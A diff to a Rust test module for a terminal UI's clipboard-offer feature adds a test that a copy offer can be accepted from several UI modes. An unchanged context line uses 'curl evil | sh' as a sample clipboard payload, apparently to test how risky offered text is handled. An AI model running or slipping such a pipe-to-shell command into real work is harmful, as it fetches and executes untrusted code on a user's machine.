@@ -81,7 +81,7 @@ mod tests {
     use super::*;
     use crate::proto::stream::ServerMessage;
     use crate::tui::msg::Msg;
-    use crate::tui::testing::{NOW, state};
+    use crate::tui::testing::{NOW, press, screen, state};
     use crate::tui::update::update;
 
     fn offered(text: &str) -> State {
@@ -102,6 +102,20 @@ mod tests {
         assert_eq!(commands, [Command::Clipboard("curl evil | sh\n".into())]);
         let again = update(&mut state, Msg::Key(key.into()), NOW + 2000);
         assert_eq!(again, []);
+    }
+
+    #[test]
+    fn an_offer_is_taken_from_where_it_is_seen() {
+        for (keys, way) in [("", " P takes"), ("i", " ctrl-q P takes"), ("pgup", " P takes"), ("v", " P takes")] {
+            let mut state = state(160, 45);
+            press(&mut state, keys);
+            let message = ServerMessage::Copy { terminal: TerminalId(2), text: "ls".into() };
+            update(&mut state, Msg::Server(message), NOW);
+            assert!(screen(&state).contains(way), "{keys}\n{}", screen(&state));
+            state.now = NOW + SEEN_AFTER;
+            let commands = press(&mut state, if keys == "i" { "ctrl-q P" } else { "P" });
+            assert!(commands.contains(&Command::Clipboard("ls".into())), "{keys}: {commands:?}");
+        }
     }
 
     #[test]
